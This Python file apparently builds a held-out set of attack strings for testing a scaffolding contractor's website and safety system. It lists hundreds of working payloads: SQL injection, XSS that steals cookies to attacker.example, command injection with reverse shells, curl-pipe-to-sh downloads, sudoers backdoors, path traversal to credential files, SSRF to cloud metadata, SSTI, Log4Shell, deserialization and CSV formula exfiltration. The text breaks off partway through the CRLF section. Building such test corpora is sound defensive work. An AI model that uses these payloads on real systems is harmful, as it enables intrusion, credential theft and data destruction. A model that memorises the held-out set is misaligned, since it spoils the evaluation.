#!/usr/bin/env python3
"""Attack held-out values for a scaffolding contractor's site and safety system."""
import json
import os
import random

SEED = 31002

# (category, class, value) literals, hand-written
A = []


def add(cat, cls, *vals):
    for v in vals:
        A.append((cat, cls, v))


# ---------------- sqli ----------------
add("sqli", "union",
    "21ft tube' UNION SELECT username, password_hash, NULL FROM staff_users-- -",
    "4471 union all select null,concat(email,0x3a,pw),null,null from clients#",
    "Ashfield' UnIoN/**/SeLeCt/**/table_name,2,3/**/FrOm/**/information_schema.tables-- x",
    "coupler') union select group_concat(column_name),2 from information_schema.columns where table_name='hire_invoices'-- ",
    "-1 UNION SELECT 1,@@version,user(),database()-- ",
    "lift 4' UNION SELECT api_key,NULL FROM integrations LIMIT 1 OFFSET 0--",
    "0 /*!50000UNION*/ /*!50000SELECT*/ card_last4,sort_code from payment_details--",
    "boards%27%20UNION%20SELECT%20login,pass%20FROM%20inspectors--%20",
    "x' union select name, sql from sqlite_master--",
    "9999 UNION ALL SELECT string_agg(usename||':'||passwd, ','),NULL FROM pg_shadow--",
)
add("sqli", "boolean",
    "O'Brien' OR '1'='1",
    "Brookfield School' or 1=1 -- ",
    "4471 OR 2>1",
    "tag' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'-- ",
    "admin'--",
    "' OR 'x'='x' /* inspector login */",
    "permit WAH-2024' AnD AsCiI(sUbStR((sElEcT cUrReNt_UsEr),1,1))>100--",
    "site') OR ('a'='a",
    "\" or \"\"=\"",
    "4472 and (select count(*) from staff_users where role='admin')>0",
    "Union Terrace'||(SELECT CASE WHEN (1=1) THEN 'a' ELSE 'b' END)||'",
    "1' oR 1 LiKe 1#",
    "1 or true",
    "ladder'/**/or/**/1/**/=/**/1/**/--",
)
add("sqli", "time",
    "ties' AND SLEEP(5)-- -",
    "4471; SELECT pg_sleep(10)--",
    "bay 9'; WAITFOR DELAY '0:0:7'--",
    "1 AND (SELECT 1 FROM (SELECT SLEEP(6))x)",
    "x' AND BENCHMARK(5000000,MD5('scaffold'))-- ",
    "' || (SELECT CASE WHEN (SELECT COUNT(*) FROM users)>5 THEN pg_sleep(4) ELSE pg_sleep(0) END)--",
    "coupler' and 1=(select 1 from dual where dbms_pipe.receive_message('q',8)=1)--",
    "4473 AnD sLeEp(3)",
    "Mill Lane\" and sleep(5) and \"1\"=\"1",
)
add("sqli", "error",
    "' AND extractvalue(1,concat(0x7e,(select version()),0x7e))-- ",
    "4471 and updatexml(null,concat(0x3a,(select database())),null)",
    "tube' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--",
    "x' and 1=cast((select current_user) as int)--",
    "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ",
    "board' || utl_inaddr.get_host_name((select user from dual)) || '",
)
add("sqli", "stacked",
    "Gang 2'; DROP TABLE tag_inspections;--",
    "4471; UPDATE staff_users SET role='admin' WHERE email='kuba@attacker.example';--",
    "x'; INSERT INTO users(email,pw,role) VALUES('ops@attacker.example','x','admin');--",
    "'; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.7/s.ps1|iex'--",
    "1; COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.14/p | sh'--",
    "lift 3'; TRUNCATE hire_invoices; --",
    "job 4480'; DELETE FROM permits WHERE 1=1;-- ",
    "'; ALTER USER postgres WITH PASSWORD 'pwned123';--",
)
add("sqli", "orderby",
    "hire_start,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)",
    "client ASC, IF((SELECT substring(pw,1,1) FROM users LIMIT 1)='$',1,(SELECT 1 UNION SELECT 2))",
    "1,extractvalue(0,concat(0x5c,(select @@datadir)))",
    "weeks desc;select pg_sleep(6)",
    "(CASE WHEN (SELECT ascii(substr(password,1,1)) FROM staff_users WHERE id=1)>64 THEN job_id ELSE client END)",
)
add("sqli", "file",
    "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- ",
    "1 union select '<?php system($_GET[c]); ?>',2 into outfile '/var/www/html/uploads/t.php'--",
    "x'; SELECT lo_import('/etc/shadow');--",
    "4471' union select pg_read_file('/var/lib/postgresql/.pgpass'),null--",
)
add("sqli", "obfuscated",
    "tube%2527%2520OR%25201%253D1--",
    "21ft\uff07 OR 1=1-- ",
    "bay'/*scaffold*/oR/*x*/'1'/*y*/=/*z*/'1",
    "ladder'\tOR\n1=1\r\n--",
    "%bf%27 or 1=1 -- ",
    "'-0 oR (sElEcT 0x41)=0x41-- ",
    "Ashfield'+(select char(115)+char(97))+'",
    "O'Reilly' UnIoN SeLeCt NuLl,CoNcAt(CHAR(117,115,101,114),0x3a,pass) fRoM users-- ",
    "1e0union select 1,2,3",
    "stock' and 'a'=CHR(97)--",
    "tube'=0 or not 0-- -",
    "4471 %4f%52 1=1",
)
add("sqli", "second-order",
    "Kasia Nowak' , role='admin",
    "Liam Byrne'), ('evil','x','admin')-- ",
)

# ---------------- xss ----------------
add("xss", "script",
    "Great job lads <script>fetch('//attacker.example/c?'+document.cookie)</script>",
    "Lift 4 red tag</textarea><script>new Image().src='https://attacker.example/k?c='+escape(document.cookie)</script>",
    "<ScRiPt>alert(document.domain)</sCrIpT>",
    "<script src=//attacker.example/x.js></script> boards wet",
    "\"><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS9hJyk='))</script>",
    "<script>/*inspection*/window['loc'+'ation']='https://attacker.example/p?'+localStorage.token</script>",
    "</title><script>document.write('<img src=//203.0.113.9/?'+document.cookie+'>')</script>",
    "<script type=text/javascript>setTimeout`alert\\x28document.cookie\\x29`</script>",
    "<script>\nfetch('/api/staff').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\n</script>",
)
add("xss", "event-handler",
    "IMG_4471.jpg\" onerror=\"fetch('//attacker.example/'+document.cookie)",
    "<img src=x onerror=alert(1)> bay 9 board split",
    "<svg onload=confirm(document.domain)>",
    "<svg/onload=location='//attacker.example/?'+document.cookie>",
    "<body onload=import('//attacker.example/m.js')>",
    "<details open ontoggle=alert`1`>toolbox talk</details>",
    "<input autofocus onfocus=eval(name)> permit P-1187",
    "<video><source onerror=\"javascript:alert(2)\">",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<marquee onstart=alert(document.cookie)>Tea's on me</marquee>",
    "Ashfield Rd\" autofocus onfocus=\"alert(origin)\" x=\"",
    "' onmouseover='fetch(`//attacker.example/${document.cookie}`)' data-x='",
    "<div style=\"width:100%;height:100%;position:fixed\" onpointerenter=alert(1)>site closed</div>",
    "<audio src=1 onerror=top['al'+'ert'](1)>",
    "<object data=x onerror=alert(7)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<img src=1 oNeRrOr=prompt(8)>",
    "<table background=x onerror=alert(1)>hire</table>",
    "<a href=# onclick=\"document.location='//attacker.example/s?'+document.cookie\">see rev C</a>",
    "<form><button formaction=javascript:alert(1)>approve permit</button></form>",
    "<select autofocus onfocus=alert(1)><option>load class 3</option></select>",
    "<textarea autofocus onfocus=alert(document.cookie)>",
    "<button autofocus onfocus=alert(1)>sign off</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
add("xss", "javascript-uri",
    "javascript:alert(document.cookie)",
    "jaVaScRiPt:fetch('//attacker.example/'+document.cookie)",
    "java\tscript:alert(1)",
    "<a href=\"javas&#99;ript:alert(1)\">drawing GA-01</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">handover cert</a>",
    "<iframe src=\"javascript:parent.location='//attacker.example'\"></iframe>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<embed src=\"data:text/html,<script>alert(1)</script>\">",
    "  javascript://%0aalert(document.domain)",
    "<object data=\"javascript:alert(1)\"></object>",
    "[photos](javascript:alert(document.cookie))",
    "<base href=\"//attacker.example/\"> see /jobs/4471",
)
add("xss", "encoded",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Csvg%2520onload%253Dalert(1)%253E",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\x3csvg onload=alert(1)\\x3e",
    "＜script＞alert(1)＜/script＞",
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "&#x3C;svg onload=alert(1)&#x3E;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<svg onload=\\u0061lert(1)>",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
)
add("xss", "context-break",
    "';alert(String.fromCharCode(88,83,83));//",
    "\";document.location='//attacker.example/?'+document.cookie;//",
    "</script><script>alert(1)</script>",
    "${alert(1)}`-alert(1)-`",
    "--><img src=x onerror=alert(1)><!--",
    "</style><svg onload=alert(1)>",
    "\\';alert(1);//",
    "Dave'}});alert(1);({x:'",
    "</noscript><img src=x onerror=alert(1)>",
    "]]><svg onload=alert(1)>",
)
add("xss", "css-style",
    "<style>@import'//attacker.example/s.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">loading bay</div>",
    "<link rel=stylesheet href=//attacker.example/x.css>",
    "<style>input[name=csrf][value^=a]{background:url(//attacker.example/a)}</style>",
)
add("xss", "meta-redirect",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">",
    "<meta http-equiv=refresh content=\"0;javascript:alert(1)\">",
    "<form action=https://attacker.example/steal method=post><input name=password placeholder='Re-enter password'></form>",
)
add("xss", "framework",
    "{{constructor.constructor('alert(1)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>",
    "<x v-html=\"'<img src=x onerror=alert(1)>'\"></x>",
)

# ---------------- cmdi ----------------
add("cmdi", "separator",
    "IMG_4471.jpg; cat /etc/passwd",
    "export_2024-06.csv && curl -s http://attacker.example/s.sh | sh",
    "GA-01.pdf | nc 203.0.113.5 4444 -e /bin/sh",
    "job4471 || wget -qO- http://198.51.100.20/x | bash",
    "scan_0412.pdf;id;uname -a",
    "drawing.pdf & whoami & ",
    "photo.png\nrm -rf /var/www/uploads\n",
    "report.pdf%0acat%20/etc/shadow",
    "4471;curl${IFS}attacker.example/$(whoami)",
    "x.jpg;crontab - <<<'* * * * * bash -c \"sh -i >& /dev/tcp/203.0.113.8/9001 0>&1\"'",
    "scan.pdf; bash -i >& /dev/tcp/198.51.100.33/443 0>&1",
    "report.csv;python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.4\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")'",
    "photo.jpg; echo c2NhZmZvbGQ= | base64 -d | sh",
    "a.pdf; perl -e 'exec \"/bin/sh\"'",
    "IMG_1.jpg;  mkfifo /tmp/f; nc 203.0.113.66 80 </tmp/f | /bin/sh >/tmp/f",
    "GA-02.pdf\r\nnslookup $(hostname).attacker.example",
    "plan.dwg `id`",
    "plan.dwg $(cat /etc/hostname)",
    "tie-test.xlsx; ping -c 10 127.0.0.1",
    "site photo ; sleep 9 ;",
    "4471|ls -la /home",
    "Mill Lane && chmod 777 /etc/sudoers",
    "x; echo 'ops ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
    "x.png; useradd -o -u 0 scaff; echo scaff:pw | chpasswd",
    "board.jpg; ssh-keygen -y; cat ~/.ssh/id_rsa",
    "img.jpg; cat /proc/self/environ",
    "export.csv; aws s3 cp s3://scaff-hire-backups . --recursive; tar cz . | curl -T - attacker.example",
)
add("cmdi", "obfuscated",
    "photo.jpg;c''at /e't'c/pa''sswd",
    "plan.pdf;/???/c?t /???/p?ss??",
    "x;$'\\x63\\x61\\x74' /etc/passwd",
    "scan.pdf;{cat,/etc/passwd}",
    "tag.jpg;w\\h\\o\\a\\m\\i",
    "img;IFS=,;`cat<<<uname,-a`",
    "x;$(printf '\\151\\144')",
    "r.pdf;a=ca;b=t;$a$b /etc/passwd",
    "4471;${PATH:0:1}bin${PATH:0:1}id",
    "x;echo${IFS}Y3VybCBhdHRhY2tlci5leGFtcGxlL3E=|base64${IFS}-d|sh",
    "photo.jpg;rev<<<'dwssap/cte/ tac'|sh",
    "a.jpg%3Bid",
    "img.jpg%26%26whoami",
    "x;tr 'a-z' 'n-za-m'<<<'png /rgp/cnffjq'|sh",
    "scan.pdf\\u0000; id",
)
add("cmdi", "windows",
    "GA-01.pdf & type C:\\Windows\\win.ini",
    "report.xlsx | powershell -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlACkA",
    "photo.jpg && certutil -urlcache -split -f http://203.0.113.12/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe",
    "scan.pdf | net user scaffadmin P@ss1 /add",
    "x.csv & bitsadmin /transfer j http://attacker.example/b.exe C:\\Users\\Public\\b.exe",
    "hire.xlsx & whoami /priv",
    "drawing.dwg|cmd /c dir C:\\inetpub\\wwwroot",
    "a.pdf & p^o^w^e^r^s^h^e^l^l -c \"iex(New-Object Net.WebClient).DownloadString('http://198.51.100.2/r')\"",
    "img.png & set /p=<C:\\ProgramData\\app\\config.ini",
    "x & rundll32.exe \\\\203.0.113.90\\share\\p.dll,Start",
)
add("cmdi", "argument",
    "--output=/var/www/html/sh.php",
    "-oProxyCommand=curl attacker.example/x|sh",
    "report.pdf --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
    "-exec /bin/sh -c id ;",
    "--use-compress-program='sh -c id'",
    "-o /etc/cron.d/k http://attacker.example/c",
    "ops@attacker.example -X/var/www/html/log.php -OQueueDirectory=/tmp",
    "GA-01.pdf' -sOutputFile='|id'",
    "--to-file=/root/.ssh/authorized_keys",
)
add("cmdi", "imagemagick-ghost",
    "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/$(id))'\npop graphic-context",
    "%!PS\nuserdict /setpagedevice undef\n(%pipe%id > /tmp/o) (w) file\nshowpage",
)

# ---------------- traversal ----------------
add("traversal", "dotdot",
    "../../../../etc/passwd",
    "drawings/../../../../../etc/shadow",
    "GA-01_revB.pdf/../../../../proc/self/environ",
    "..\\..\\..\\..\\windows\\win.ini",
    "/designs/2024/../../../var/www/app/.env",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "photos/4471/../../../../../root/.ssh/id_rsa",
    "../../../../../../home/scaff/.bash_history",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../config/database.yml",
    "../../../../../var/log/nginx/access.log",
    "exports/../../../app/settings.py",
    "..//..//..//..//etc//passwd",
    "..;/..;/..;/WEB-INF/web.xml",
    "scan_0412.pdf/..\\..\\..\\..\\boot.ini",
    "../../../../../../../../../../../../etc/group",
    "/jobs/4471/photos/../../../../proc/1/cmdline",
)
add("traversal", "encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
    "．．／．．／．．／etc／passwd",
    "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
    "%2e%2e/%2e%2e/%2e%2e/home/scaff/.aws/credentials",
    "..%252f..%252f..%252fapp%252f.env",
    "GA-01.pdf%00../../../../etc/passwd",
    "../../../../etc/passwd%00.pdf",
    "../../../../etc/passwd\\u0000.jpg",
    "%2E%2E%5C%2E%2E%5C%2E%2E%5Cboot.ini",
    ".%2e/.%2e/.%2e/.%2e/etc/passwd",
    "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
)
add("traversal", "absolute",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\Windows\\System32\\config\\SAM",
    "\\\\203.0.113.50\\share\\payload.dwg",
    "/proc/self/cwd/.env",
    "php://filter/convert.base64-encode/resource=../config.php",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "zip://uploads/4471.zip#../../../../etc/passwd",
)
add("traversal", "archive",
    "../../../../var/www/html/shell.php",
    "photos/../../../../../etc/cron.d/scaffbackup",
    "..\\..\\..\\Users\\Public\\Start Menu\\Programs\\Startup\\x.bat",
    "/../../../../../../tmp/../etc/passwd",
)

# ---------------- ssrf ----------------
add("ssrf", "cloud-metadata",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.170.2/v2/credentials/",
    "http://instance-data/latest/meta-data/hostname",
)
add("ssrf", "alt-ip",
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://0x7f.0.0.1:8080/admin",
    "http://017700000001/server-status",
    "http://127.1/admin/users",
    "http://0/",
    "http://[::]:6379/",
    "http://[::ffff:127.0.0.1]:9200/_cat/indices",
    "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
    "http://①②⑦.⓪.⓪.①/admin",
    "http://169.254.43518/latest/meta-data/",
    "http://127.000.000.001:2375/containers/json",
)
add("ssrf", "internal",
    "http://localhost:8500/v1/agent/self",
    "http://127.0.0.1:2379/v2/keys/?recursive=true",
    "http://10.0.0.12:9200/_search?q=*",
    "http://192.168.1.1/cgi-bin/luci",
    "http://172.17.0.1:2375/images/json",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://hire-db.internal:5984/_all_dbs",
    "https://localhost/actuator/env",
    "http://127.0.0.1:15672/api/users",
    "http://redis:6379/",
    "http://192.168.0.10:8080/manager/html",
)
add("ssrf", "scheme",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
    "gopher://localhost:11211/_stats%0d%0a",
    "dict://127.0.0.1:6379/CONFIG%20SET%20dir%20/var/www/html",
    "file:///proc/self/environ",
    "ftp://10.0.0.5/etc/passwd",
    "ldap://127.0.0.1:389/dc=scaff,dc=local",
    "jar:http://attacker.example/x.jar!/",
    "netdoc:///etc/hosts",
    "tftp://203.0.113.40/x",
)
add("ssrf", "bypass",
    "http://attacker.example@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254#@scaffold-drawings.example/GA-01.pdf",
    "http://127.0.0.1.nip.io:8080/admin",
    "http://localtest.me/admin",
    "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/",
    "http://rebind.attacker.example/latest/meta-data/",
    "http://LOCALHOST%2F@attacker.example/",
    "http://127.0.0.1%09.attacker.example/",
    "http://[::1]:80/admin",
)

# ---------------- code ----------------
add("code", "ssti-jinja",
    "Dear {{ client_name }}, {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}",
    "{{ config.items() }}",
    "{{ lipsum.__globals__['os'].popen('curl attacker.example/j|sh').read() }}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('whoami').read() }}",
    "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}",
    "Hi {{ site_address }} {{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ namespace.__init__.__globals__.os.system('id') }}",
)
add("code", "ssti-other",
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/s')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }",
    "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}{{/with}}",
    "<%= system('cat /etc/passwd') %>",
    "<%= `id` %> toolbox talk",
    "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}",
    "{{['id']|filter('system')}}",
    "${{7*7}}#{7*7}<%= 7*7 %>{php}echo `id`;{/php}",
    "{php}system('id');{/php}",
    "#{T(java.lang.System).getenv()}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{= global.process.mainModule.require('child_process').execSync('id') }}",
    "#{7*7}${\"\".getClass().forName(\"java.lang.Runtime\")}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
)
add("code", "expression-language",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "#{facesContext.externalContext.request.getSession().invalidate()}",
    "${applicationScope}",
    "${pageContext.request.getSession().setAttribute('role','admin')}",
    "%{#a=new java.lang.ProcessBuilder({'id'}).start()}",
    "T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})",
)
add("code", "eval",
    "__import__('os').system('curl -s attacker.example/p | sh')",
    "require('child_process').exec('nc 203.0.113.77 9001 -e sh')",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "exec(\"import subprocess;subprocess.call(['sh','-c','id'])\")",
    "\";system('id');//",
    "'.system('cat /etc/passwd').'",
    "phpinfo();",
    "<?php echo shell_exec($_GET['c']); ?>",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[{type:'pipe',readable:true}]})",
    "1;__import__('subprocess').check_output('id',shell=True)",
    "load class 3 = #{`id`}",
    "Function('return process')().mainModule.require('fs').readFileSync('/etc/passwd')",
    "assert(\"system('id')\")",
    "${@print(system($_GET[x]))}",
)
add("code", "log4shell",
    "${jndi:ldap://attacker.example:1389/a}",
    "Kasia ${jndi:rmi://203.0.113.15/obj}",
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:dns://198.51.100.5/q}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/k}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
    "${jn${upper:d}i:ldaps://attacker.example/e}",
    "User-Agent: ${jndi:ldap://203.0.113.61/ua}",
)
add("code", "prototype-pollution",
    "{\"__proto__\":{\"isAdmin\":true}}",
    "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}",
    "__proto__[outputFunctionName]=_tmp1;global.process.mainModule.require('child_process').execSync('id');var __tmp2",
    "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}",
    "constructor.prototype.allowedSites=*",
    "{\"settings\":{\"__proto__\":{\"sourceURL\":\"\\u2028\\u2029\\nglobal.process.mainModule.require('child_process').execSync('id')\"}}}",
)
add("code", "csv-formula",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Hire total\")",
    "+cmd|'/c powershell iwr attacker.example/x'!A1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"https://attacker.example/c?\"&ENCODEURL(C2))",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",A2:E2),\"//a\")",
    "\"4700\",\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"!A0\"\")\",4,£240",
    "=IMPORTDATA(\"https://attacker.example/q?\"&A3)",
    "\t=1+1+cmd|' /C whoami'!A1",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><hire><client>&x;</client></hire>",
    "<!DOCTYPE d [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><inspection/>",
    "<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><tag>&s;</tag>",
    "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>",
    "<?xml version=\"1.0\"?><!DOCTYPE foo SYSTEM \"http://203.0.113.30/x.dtd\"><permit>WAH-2024</permit>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\"><!DOCTYPE s [<!ENTITY f SYSTEM \"file:///proc/self/environ\">]><text>&f;</text></svg>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hosts\"/>",
)
add("code", "deserialization",
    "O:8:\"HireJob\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "a:1:{i:0;O:14:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA==",
    "!!python/object/apply:os.system ['curl attacker.example/y|sh']",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://203.0.113.15:1389/Exp\",\"autoCommit\":true}",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}",
    "cos\nsystem\n(S'id'\ntR.",
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/hash:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: []",
)

# ---------------- nosqli ----------------
add("nosqli", "operator",
    "{\"email\": {\"$ne\": null}, \"password\": {\"$ne\": null}}",
    "{\"$where\": \"sleep(5000) || true\"}",
    "{\"username\": {\"$regex\": \"^adm\"}, \"password\": {\"$gt\": \"\"}}",
    "username[$ne]=x&password[$ne]=x",
    "job_id[$gt]=0",
    "{\"client\": {\"$in\": [\"Ashfield Homes\", {\"$exists\": true}]}}",
    "{\"role\": {\"$nin\": [\"viewer\"]}}",
    "tag[$regex]=.*&tag[$options]=si",
    "{\"$or\": [{\"site\": \"Union Terrace\"}, {\"1\": {\"$exists\": false}}]}",
    "password[$regex]=^p4",
    "{\"pin\": {\"$gte\": 0}}",
    "{\"status\": {\"$not\": {\"$eq\": \"closed\"}}}",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "email[%24ne]=a",
    "{\"inspector\": {\"$where\": \"this.password.match(/^a/)\"}}",
)
add("nosqli", "js-injection",
    "'; return true; var x='",
    "Ashfield'; while(true){}; '",
    "1'; sleep(4000); var d='",
    "' || this.role == 'admin' || '",
    "0; return db.getCollectionNames().length > 0;",
    "\"; db.staff.drop(); var z=\"",
)
add("nosqli", "aggregation",
    "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]",
    "{\"$group\": {\"_id\": \"$password_hash\"}}",
    "[{\"$unionWith\": \"api_tokens\"}]",
    "{\"$merge\": {\"into\": \"staff_users\"}}",
    "{\"$out\": \"permits\"}",
    "{\"site\": {\"$regex\": \"(a+)+$\"}}",
)

# ---------------- crlf ----------------
add("crlf", "log-forging",
    "Bay 9 boards replaced\n2024-06-01 07:12:03 INFO user=admin action=login result=success ip=10.0.0.2",
    "Tag green\r\n[AUDIT] permit WAH-2024-0412 approved by ops.manager",
    "Near miss reported%0d%0a2024-05-02 06:45:00 INFO inspection INS-24-1189 passed by M. Kowalczyk",
    "Kuba%0aERROR auth: password for root is hunter2",
    "lift 4 ok\n\n=== LOG ROTATED ===\n2024-07-01 00:00:00 INFO all incidents closed",
    "Ravi\\u000d\\u000a127.0.0.1 - admin [01/Jul/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200",
    "gate code changed%0D%0A%0D%0A[SECURITY] alert cleared by system",
)
add("crlf", "header-injection",
    "en\r\nSet-Cookie: session=attacker; Path=/; HttpOnly",
    "/jobs/4471%0d%0aLocation:%20https://attacker.example/login",
    "report.pdf%0D%0AContent-Disposition:%20attachment;%20filename=invoice.exe",
    "pl%0d%0aX-Forwarded-Host:%20attacker.example",
    "/designs/2024%E5%98%8A%E5%98%8DSet-Cookie:%20sid=x",
    "fr\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true",
